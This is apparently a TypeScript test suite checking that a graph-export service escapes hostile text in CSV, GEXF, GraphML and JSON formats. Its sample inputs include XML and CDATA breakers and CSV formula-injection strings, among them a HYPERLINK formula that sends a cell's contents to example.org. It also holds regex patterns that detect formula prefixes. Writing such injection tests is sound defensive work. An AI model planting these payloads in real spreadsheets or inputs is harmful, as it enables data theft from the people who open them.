import fc from 'fast-check';
import { writeCsv } from '../../../src/transfer/formats/csv';
import { writeCytoscapeJson } from '../../../src/transfer/formats/cytoscape-json';
import { writeGexf } from '../../../src/transfer/formats/gexf';
import { nothingOmitted } from '../../../src/transfer/formats/graph-part';
import { writeGraphml } from '../../../src/transfer/formats/graphml';
import type { Evidence, ExportedNode, ExportedRelation, Item } from '../../../src/transfer/formats/item';
import { writeJsonLd } from '../../../src/transfer/formats/json-ld';
import { describeOnBothEngines } from '../../support/engines';
import { graphReaders, readCsv } from '../../support/graph-readers';
import { serviceWith, type GraphService } from '../../support/graph-service';
import type { RecordSet } from '../../../src/transfer/load-records';
import { sha256 } from '../../../src/transfer/checksum';

const hostile = {
  'quotes, apostrophes, tags and the end of a CDATA section': `"double" 'single' & <name> </node> ]]> &amp; &#0; <!-- -->`,
  'line breaks and tabs': 'one\ntwo\r\nthree\rfour\tfive\n',
  'other line separators': 'one\u2028two\u2029three\u0085four\u000bfive',
  'blanks at the ends': '  a  b \u3000 ',
  'control characters': '\u0001a\u0008b\u001fc\u007fd',
  'what is no character': 'a\uFFFEb\uFFFFc',
  'characters beyond the first plane': '𠮷野家 😀 👩‍👩‍👧 \u{10FFFF}',
  'text from right to left with its marks': '\u202Eشركة روساتوم\u202C שלום \u200F',
  'a formula': `=HYPERLINK("http://example.org/?"&A1,"click")`,
  'a formula in full width': '＝1+1',
  'a formula behind an apostrophe': `'=1+1`,
  'a formula behind invisible characters': '\uFEFF\u200B =1+1',
  'a plus, as of a telephone number': '+7 495 000-00-00',
  'a minus': '-1',
  'an at sign': '@SUM(1)',
  'a tab before a formula': '\t=1',
  'commas and semicolons': 'a,b;c,"d"',
  backslashes: 'C:\\new\\table',
  'words of JSON-LD': '@id',
};

const xmlFormats = ['gexf', 'graphml'] as const;
const jsonFormats = ['cytoscape.json', 'jsonld'] as const;

describeOnBothEngines('names and quotes that could break a file', (engine) => {
  let service: GraphService;

  beforeAll(async () => {
    service = await serviceWith(engine(), hostileRecords());
  }, 60_000);

  const take = async (format: string) => (await service.fetch(`/export/${format}?all=1`)).text();

  it.each(jsonFormats)('come through %s as they are', async (format) => {
    const { nodes, relations } = await graphReaders[format](await take(format));
    for (const [index, text] of Object.values(hostile).entries()) {
      expect(nodes.get(`project:p${index}`)).toMatchObject({ label: text, names: [{ value: text }] });
      expect(relations.get(`relation:concerns.all.p${index}`)).toMatchObject({ quotes: [{ quote: text, sourceTitle: everything }] });
    }
  });

  it.each(xmlFormats)('come through %s but for what XML cannot hold', async (format) => {
    const { nodes, relations } = await graphReaders[format](await take(format));
    for (const [index, text] of Object.values(hostile).entries()) {
      expect(nodes.get(`project:p${index}`)).toMatchObject({ label: inXml(text) });
      // Within JSON a control character is written out.
      const [name] = nodes.get(`project:p${index}`)!['names'] as { value: string }[];
      expect(withoutNoncharacters(name!.value)).toBe(withoutNoncharacters(text));
      const [quote] = relations.get(`relation:concerns.all.p${index}`)!['quotes'] as { quote: string }[];
      expect(withoutNoncharacters(quote!.quote)).toBe(withoutNoncharacters(text));
    }
  });

  it('come through CSV, and none of them is a formula', async () => {
    const rows = new Map(readCsv(await take('csv')).map((row) => [row['to_id'], row]));
    for (const [index, text] of Object.values(hostile).entries()) {
      const row = rows.get(`project:p${index}`)!;
      expect(unguarded(row['to_name']!)).toBe(text);
      expect(row['to_name']).not.toMatch(/^[=+\-@＝＋－＠\t\r]/);
      expect(unguarded(row['quotes']!)).toBe(text.replaceAll('\\', '\\\\').replaceAll('\r', '\\r').replaceAll('\n', '\\n'));
    }
  });
});

describe('any text at all', () => {
  const anyText = fc.string({
    unit: fc.oneof(
      fc.integer({ min: 0, max: 0x10ffff }).map((code) => String.fromCodePoint(code)),
      char('"\'&<>]=,\r\n\t\\'),
    ),
  });

  it.each([
    ['gexf', writeGexf],
    ['graphml', writeGraphml],
  ] as const)('comes through %s but for what XML cannot hold', async (format, write) => {
    await fc.assert(
      fc.asyncProperty(anyText, anyText, async (name, word) => {
        const { nodes, relations } = await graphReaders[format](await written(write, name, word));
        // Some readers leave out an attribute that is empty.
        expect(nodes.get('project:p')?.['label'] ?? '').toBe(inXml(name));
        expect(relations.get('relation:concerns.i.p')?.['locator']).toBe(inXml(word));
      }),
      { numRuns: 200 },
    );
  });

  it.each([
    ['cytoscape.json', writeCytoscapeJson],
    ['jsonld', writeJsonLd],
  ] as const)('comes through %s as it is', async (format, write) => {
    await fc.assert(
      fc.asyncProperty(anyText, anyText, async (name, word) => {
        const { nodes, relations } = await graphReaders[format](await written(write, name, word));
        expect(nodes.get('project:p')?.['label']).toBe(name);
        expect(relations.get('relation:concerns.i.p')?.['locator']).toBe(word);
      }),
      { numRuns: 100 },
    );
  });

  it('comes through CSV, and never as a formula', async () => {
    await fc.assert(
      fc.asyncProperty(anyText, anyText, async (name, word) => {
        const [row] = readCsv((await written(writeCsv, name, word)).slice(1));
        expect(unguarded(row!['to_name']!)).toBe(name);
        expect(unguarded(row!['locator']!)).toBe(word);
        expect(row!['locator']).not.toMatch(/^[\s\p{C}]*[=+\-@＝＋－＠]/u);
      }),
      { numRuns: 300 },
    );
  });
});

const everything = Object.values(hostile).join(' ');

/** One instrument that concerns a project for each hostile text, which is its name and its evidence. */
function hostileRecords(): Partial<RecordSet> {
  const texts = Object.values(hostile);
  const source = {
    record: 'source',
    id: 'source:hostile',
    title: everything,
    lang: 'en',
    sha256: sha256(everything),
    text: everything,
  } as const;
  let start = 0;
  const passages = texts.map((quote, index) => {
    const end = start + Array.from(quote).length;
    const passage = { record: 'passage', id: `passage:hostile.p${index}`, source: source.id, start, end, quote } as const;
    start = end + 1;
    return passage;
  });
  const instrument = {
    record: 'entity',
    id: 'instrument:all',
    type: 'AGREEMENT',
    kind: 'PLAN',
    names: [{ value: 'Plan', lang: 'en', kind: 'OFFICIAL' }],
  } as const;
  const projects = texts.map((value, index) => {
    return { record: 'entity', id: `project:p${index}`, type: 'PROJECT', names: [{ value, lang: 'en', kind: 'OFFICIAL' }] } as const;
  });
  const relations = projects.map(({ id }, index) => {
    const ends = { from: instrument.id, to: id, evidence: [`passage:hostile.p${index}`] };
    return { record: 'relation', id: `relation:concerns.all.p${index}`, type: 'CONCERNS', ...ends } as const;
  });
  return { sources: [source], passages, entities: [instrument, ...projects], relations };
}

async function written(write: typeof writeGexf, name: string, word: string): Promise<string> {
  async function* items(): AsyncGenerator<readonly Item[]> {
    yield [{ node: nodeNamed('instrument:i', 'AGREEMENT', 'i') }, { node: nodeNamed('project:p', 'PROJECT', name) }];
    yield [{ relation: relationAt(nodeNamed('project:p', 'PROJECT', name), word) }];
  }
  const pieces: string[] = [];
  for await (const piece of write(items(), nothingOmitted)) pieces.push(piece);
  return pieces.join('');
}

const noEvidence: Evidence = { quotes: [], passages: 0 };

function nodeNamed(id: string, type: ExportedNode['type'], value: string): ExportedNode {
  const label = { value, lang: 'en', kind: 'OFFICIAL' } as const;
  return {
    id,
    type,
    label,
    names: [label],
    description: undefined,
    kind: undefined,
    dates: {},
    dateOf: undefined,
    otherDates: [],
    draft: undefined,
    externalIds: [],
    formerIds: [],
    evidence: noEvidence,
  };
}

function relationAt(to: ExportedNode, locator: string): ExportedRelation {
  return {
    id: 'relation:concerns.i.p',
    type: 'CONCERNS',
    label: 'concerns',
    from: nodeNamed('instrument:i', 'AGREEMENT', 'i'),
    to,
    role: undefined,
    office: undefined,
    onBehalfOf: undefined,
    locator,
    date: undefined,
    since: undefined,
    until: undefined,
    asserted: undefined,
    evidence: noEvidence,
  };
}

/** What XML 1.0 allows, by https://www.w3.org/TR/xml/#charsets; the rest is replaced. */
function inXml(text: string): string {
  const isAllowed = (code: number) =>
    code === 9 || code === 10 || code === 13 || (code >= 0x20 && code <= 0xd7ff) || (code >= 0xe000 && code <= 0xfffd) || code >= 0x10000;
  return Array.from(text, (character) => (isAllowed(character.codePointAt(0)!) ? character : '\uFFFD')).join('');
}

/** JSON text within XML writes control characters out, but not these. */
function withoutNoncharacters(text: string): string {
  return text.replace(/[\uFFFD-\uFFFF]/g, '');
}

/** What a cell holds without the apostrophe that guards it. */
function unguarded(cell: string): string {
  return /^'['\s\p{C}]*[=+\-@＝＋－＠]|^''*[\t\r]/u.test(cell) ? cell.slice(1) : cell;
}

function char(characters: string) {
  return fc.constantFrom(...characters);
}
